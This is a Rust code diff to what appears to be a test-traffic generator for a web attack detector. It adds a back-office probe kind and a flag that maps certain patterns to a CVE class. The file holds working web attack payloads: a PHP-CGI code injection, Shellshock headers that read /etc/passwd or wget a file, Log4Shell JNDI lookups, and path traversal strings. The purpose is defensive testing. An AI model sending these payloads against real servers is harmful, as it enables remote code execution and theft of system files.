@@ -15,6 +15,8 @@ pub enum Kind {
     Command,
     /// JNDI lookups.
     Jndi,
+    /// A probe of the site's own back office, which only a rule of its operator knows.
+    Local,
     /// A scanner that names itself.
     Scanner,
     /// Probes for sensitive files.
@@ -40,18 +42,25 @@ struct Pattern {
     header: &'static str,
     /// Content type and body; a body makes it a POST.
     body: Option<(&'static str, &'static str)>,
+    /// Whether it is aimed at one known hole of one product.
+    cve: bool,
 }
 
 const fn target(target: &'static str) -> Pattern {
-    Pattern { target, header: "", body: None }
+    Pattern { target, header: "", body: None, cve: false }
 }
 
 const fn header(target: &'static str, header: &'static str) -> Pattern {
-    Pattern { target, header, body: None }
+    Pattern { target, header, body: None, cve: false }
 }
 
 const fn post(target: &'static str, kind: &'static str, body: &'static str) -> Pattern {
-    Pattern { target, header: "", body: Some((kind, body)) }
+    Pattern { target, header: "", body: Some((kind, body)), cve: false }
+}
+
+const fn cve(mut pattern: Pattern) -> Pattern {
+    pattern.cve = true;
+    pattern
 }
 
 const FORM: &str = "application/x-www-form-urlencoded";
@@ -63,11 +72,11 @@ const CODE: &[Pattern] = &[
     target("/index.php?f=phpinfo()%3B&v=eval(base64_decode(%27cGhwaW5mbygpOw%3D%3D%27))"),
     post("/upload/run.php", FORM, "z{n}=eval%28base64_decode%28%24_POST%5B%27{w}%27%5D%29%29%3B"),
     target("/{w}.php?data=%3C%3Fphp%20echo%20shell_exec(%22id%22)%3B%20%3F%3E"),
-    post(
+    cve(post(
         "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
         FORM,
         "<?php echo md5('{w}'); system('id'); ?>",
-    ),
+    )),
 ];
 
 const COMMAND: &[Pattern] = &[
@@ -87,6 +96,9 @@ const JNDI: &[Pattern] = &[
     header("/{w}", "Referer: ${${lower:j}ndi:${lower:l}dap://{ip}/{x}}"),
     post("/api/login", JSON, "{\"user\":\"${jndi:dns://{x}.{ip}.example.net/a}\",\"password\":\"{w}\"}"),
 ];
+
+const LOCAL: &[Pattern] =
+    &[target("/intern/{w}/export?sheet={n}"), target("/intern/{w}/list?page={n}&sort=name")];
 
 const SCANNER: &[Pattern] = &[
     header("/", "User-Agent: sqlmap/1.7.{n}#stable (https://sqlmap.org)"),
@@ -115,7 +127,7 @@ const SENSITIVE: &[Pattern] = &[
 
 const SHELLSHOCK: &[Pattern] = &[
     header("/cgi-bin/{w}.cgi", "User-Agent: () { :; }; /bin/bash -c \"wget http://{ip}/{x} -O /tmp/{x}\""),
-    header("/cgi-bin/test-cgi", "Referer: () { ignored; }; echo; /bin/cat /etc/passwd"),
+    cve(header("/cgi-bin/test-cgi", "Referer: () { ignored; }; echo; /bin/cat /etc/passwd")),
     header("/cgi-bin/{w}", "Cookie: () { :;}; /usr/bin/id"),
 ];
 
@@ -157,7 +169,7 @@ const TRAVERSAL: &[Pattern] = &[
     target("/static/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"),
     target("/index.php?page=php://filter/convert.base64-encode/resource=../../{w}"),
     target("/img?src=....//....//....//....//etc/shadow"),
-    target("/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
+    cve(target("/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd")),
     target("/view?doc=..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
     target("/get?path=%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
 ];
@@ -246,7 +258,7 @@ impl Kind {
             Self::Command => &["web.rce"],
             Self::Jndi => &["web.java", "web.cve"],
             Self::Scanner => &["web.scan"],
-            Self::Sensitive => &["web.sensitive"],
+            Self::Local | Self::Sensitive => &["web.sensitive"],
             Self::Shellshock => &["web.rce", "web.cve"],
             Self::Sqli => &["web.sqli"],
             Self::Template => &["web.ssti"],
@@ -256,11 +268,17 @@ impl Kind {
         }
     }
 
+    /// Whether the built-in rules know it.
+    pub const fn is_built_in(self) -> bool {
+        !matches!(self, Self::Local)
+    }
+
     const fn patterns(self) -> &'static [Pattern] {
         match self {
             Self::Code => CODE,
             Self::Command => COMMAND,
             Self::Jndi => JNDI,
+            Self::Local => LOCAL,
             Self::Scanner => SCANNER,
             Self::Sensitive => SENSITIVE,
             Self::Shellshock => SHELLSHOCK,
@@ -277,6 +295,12 @@ impl Kind {
 pub fn attack(kind: Kind, host: &str, random: &mut Random) -> Vec<u8> {
     let pattern = random.pick(kind.patterns());
     write(pattern, host, random)
+}
+
+/// The one class that the attack of that kind has which [`attack`] writes with the same randomness.
+pub fn class(kind: Kind, random: &Random) -> &'static str {
+    let pattern = random.clone().pick(kind.patterns());
+    if pattern.cve { "web.cve" } else { kind.classes().first().copied().unwrap_or_default() }
 }
 
 /// A request of an honest visitor.
